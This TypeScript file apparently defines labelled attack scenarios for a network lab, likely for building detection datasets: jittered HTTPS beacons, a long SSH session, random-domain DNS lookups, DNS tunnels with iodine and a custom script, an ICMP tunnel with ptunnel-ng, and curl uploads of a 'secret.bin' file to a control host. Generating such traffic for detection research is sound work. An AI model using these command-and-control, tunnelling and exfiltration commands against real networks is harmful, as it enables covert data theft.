import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { addressOf } from '../network.js';
import { OWN_PROGRAMS, PYTHON } from '../servers.js';
import { TUNNEL_DOMAINS } from '../site.js';
import { fetchArgs, sshArgs } from '../stage.js';
import { type Attack, CONTROL } from './attack.js';

const RESOLVER = addressOf('dns');
const TUNNEL_END = '10.99.0.1';

interface Infection {
  readonly name: string;
  readonly label: string;
  readonly category: Attack['category'];
  readonly machine: string;
  readonly limitS: number;
  readonly tools: readonly string[];
  readonly note: string;
  readonly victim?: string;
  readonly filter?: string;
  readonly isAlongside?: boolean;
  run: Attack['run'];
}

function infected({ machine, victim = CONTROL, filter, ...rest }: Infection): Attack {
  const attacker = addressOf(machine);
  return { ...rest, attacker, victim, filter: filter ?? `host ${attacker} and host ${victim}` };
}

const BEACON_S = 8;

const beacons: Attack[] = [
  infected({
    name: 'beacon',
    label: 'beacon_https',
    category: 'c2',
    machine: 'client3',
    limitS: Number.POSITIVE_INFINITY,
    isAlongside: true,
    tools: ['curl'],
    note: `every ${BEACON_S} s, a fifth more or less`,
    run: async (stage) => {
      for (;;) {
        await stage.run('client3', fetchArgs([`https://${CONTROL}/logo.bin`], '-A', 'Mozilla/4.0', '-r', '0-120'));
        await stage.pause(BEACON_S * (0.8 + 0.4 * stage.random()));
      }
    },
  }),
  infected({
    name: 'long-session',
    label: 'long_connection_ssh',
    category: 'c2',
    machine: 'client2',
    limitS: Number.POSITIVE_INFINITY,
    isAlongside: true,
    tools: ['ssh'],
    note: 'one SSH connection to the outside for the whole run, a line every five seconds',
    run: (stage) =>
      stage.run('client2', sshArgs(stage, `root@${CONTROL}`, 'for i in $(seq 20000); do date; sleep 5; done'), 86_400),
  }),
  infected({
    name: 'random-names',
    label: 'generated_domains_random_names',
    category: 'c2',
    machine: 'client4',
    victim: RESOLVER,
    filter: `host ${addressOf('client4')} and host ${RESOLVER} and udp port 53`,
    limitS: 30,
    tools: ['dig'],
    note: '150 random names that do not exist',
    run: (stage) => {
      const letter = () => String.fromCharCode(97 + Math.floor(stage.random() * 26));
      const names = Array.from({ length: 150 }, () => `${Array.from({ length: 14 }, letter).join('')}.com`);
      const path = join(stage.folder, 'names.txt');
      writeFileSync(path, `${names.map((name) => `${name} A`).join('\n')}\n`);
      return stage.run('client4', ['dig', '+tries=1', '+time=1', '+short', '-f', path], 30);
    },
  }),
];

/** Names that carry data, through the resolver. */
function ownTunnel(name: string, type: string, bytes: number, pauseS: number): Attack {
  return infected({
    name,
    label: `dns_tunnel_${name.slice('dns-'.length).replace('-', '_')}`,
    category: 'dns_tunnel',
    machine: 'client1',
    victim: RESOLVER,
    filter: `host ${RESOLVER} and udp port 53 and (host ${addressOf('client1')} or host 203.0.113.67)`,
    limitS: 60,
    tools: [],
    note: `${bytes} bytes in ${type} questions, ${pauseS} s apart`,
    run: async (stage) => {
      const program = join(OWN_PROGRAMS, 'dns_tunnel.py');
      const server = stage.start('control', [PYTHON, program, 'serve', '203.0.113.67'], 70);
      await stage.pause(0.5);
      await stage.run(
        'client1',
        [PYTHON, program, 'send', RESOLVER, TUNNEL_DOMAINS.own, String(bytes), String(pauseS), type],
        60,
      );
      await server.end();
    },
  });
}

const tunnels: Attack[] = [
  infected({
    name: 'iodine',
    label: 'dns_tunnel_iodine',
    category: 'dns_tunnel',
    machine: 'client2',
    victim: RESOLVER,
    filter: `host ${RESOLVER} and udp port 53 and (host ${addressOf('client2')} or host ${CONTROL})`,
    limitS: 45,
    tools: ['iodine', 'iodined'],
    note: 'IP over DNS through the resolver, and files fetched through it',
    run: async (stage) => {
      const server = stage.start(
        'control',
        ['iodined', '-f', '-c', '-P', 'laboratory', '-l', CONTROL, `${TUNNEL_END}/24`, TUNNEL_DOMAINS.iodine],
        50,
      );
      await stage.pause(1);
      const client = stage.start(
        'client2',
        ['iodine', '-f', '-r', '-P', 'laboratory', RESOLVER, TUNNEL_DOMAINS.iodine],
        45,
      );
      await stage.pause(12);
      await stage.run(
        'client2',
        fetchArgs([`http://${TUNNEL_END}/package0.deb`, `http://${TUNNEL_END}/package1.deb`]),
        20,
      );
      await client.end();
      await server.end();
    },
  }),
  ownTunnel('dns-txt', 'TXT', 12_000, 0.05),
  ownTunnel('dns-cname', 'CNAME', 6000, 0.2),
  ownTunnel('dns-a-slow', 'A', 1800, 1.5),
  infected({
    name: 'ptunnel',
    label: 'icmp_tunnel_ptunnel',
    category: 'icmp_tunnel',
    machine: 'client1',
    filter: `icmp and host ${addressOf('client1')} and host ${CONTROL}`,
    limitS: 40,
    tools: ['ptunnel-ng', 'ssh'],
    note: 'an SSH session and a file in ICMP echoes (ptunnel-ng)',
    run: async (stage) => {
      const server = stage.start('control', ['ptunnel-ng', '-r127.0.0.1', '-R22', '-o/dev/null'], 45);
      const client = stage.start(
        'client1',
        ['ptunnel-ng', `-p${CONTROL}`, '-l2222', '-r127.0.0.1', '-R22', '-o/dev/null'],
        45,
      );
      await stage.pause(2);
      await stage.run(
        'client1',
        sshArgs(
          stage,
          '-p',
          '2222',
          'root@127.0.0.1',
          'for i in 1 2 3 4 5 6; do ls -l /usr/share | head -60; sleep 1; done',
        ),
        25,
      );
      await client.end();
      await server.end();
    },
  }),
];

const thefts: Attack[] = [
  infected({
    name: 'upload',
    label: 'data_exfiltration_upload',
    category: 'exfil',
    machine: 'client4',
    limitS: 30,
    tools: ['curl'],
    note: 'three files of 6 MB, HTTPS PUT',
    run: async (stage) => {
      for (let number = 0; number < 3; number++) {
        await stage.run(
          'client4',
          [
            'curl',
            '-s',
            '-k',
            '--limit-rate',
            '4M',
            '-T',
            join(stage.folder, 'secret.bin'),
            `https://${CONTROL}/upload/${number}`,
          ],
          15,
        );
      }
    },
  }),
  infected({
    name: 'upload-in-pieces',
    label: 'data_exfiltration_in_pieces',
    category: 'exfil',
    machine: 'client4',
    limitS: 60,
    tools: ['curl'],
    note: 'sixty pieces of 50 kB, each on a connection of its own',
    run: async (stage) => {
      for (let piece = 0; piece < 60; piece++) {
        await stage.run(
          'client4',
          ['curl', '-s', '-k', '-T', join(stage.folder, 'www/package2.deb'), `https://${CONTROL}/upload/piece${piece}`],
          10,
        );
        await stage.pause(0.3 + stage.random() * 0.6);
      }
    },
  }),
];

/** Command and control, tunnels and theft. */
export const CONTROL_AND_THEFT: readonly Attack[] = [...beacons, ...tunnels, ...thefts];
